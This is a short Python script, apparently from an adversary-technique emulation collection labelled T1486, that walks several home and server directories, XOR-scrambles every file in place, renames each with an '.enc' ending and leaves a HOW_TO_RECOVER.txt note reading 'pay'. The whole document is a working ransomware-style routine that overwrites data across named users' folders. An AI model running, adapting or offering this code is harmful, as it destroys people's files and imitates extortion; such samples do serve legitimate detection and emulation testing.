#!/usr/bin/env python3
# title: Python encrypts documents in their places and gives them another ending
# technique: T1486
# needs: python3
# short: yes

import os
for top in ("/home/ann/Documents", "/home/bob", "/srv/data"):
    for folder, _, files in os.walk(top):
        for name in files:
            path = os.path.join(folder, name)
            data = bytes(byte ^ 0x5a for byte in open(path, "rb").read())
            open(path, "wb").write(data); os.rename(path, path + ".enc")
    open(f"{top}/HOW_TO_RECOVER.txt", "w").write("pay\n")
